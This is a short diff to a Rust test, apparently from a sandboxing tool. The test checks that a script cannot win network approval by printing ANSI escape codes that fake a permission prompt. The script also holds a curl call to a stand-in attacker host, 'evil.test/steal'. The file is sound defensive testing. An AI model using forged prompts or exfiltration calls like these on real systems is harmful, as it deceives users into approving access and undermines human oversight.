@@ -448,7 +448,7 @@ fn a_forged_question_approves_nothing() {
     let ws = Ws::new();
     let p = ask_profile(&ws, port, &["evil.test"], "4s");
     let rt = runtime_dir(&ws);
-    let log = ws.join("audit.jsonl").display().to_string();
+    let log = ws.outside("audit.jsonl").display().to_string();
     let script = format!(
         "printf '\\033[1;22r\\033[?6h\\033[30;40m\\033[24;1H\\033[2K\\033[7m taskcell: allow docs.example.test:443? [y/N] \\033[22;1H'; \
          echo started; curl -s -o /dev/null -w 'code=%{{http_code}}\\n' http://evil.test:{port}/steal; echo done"
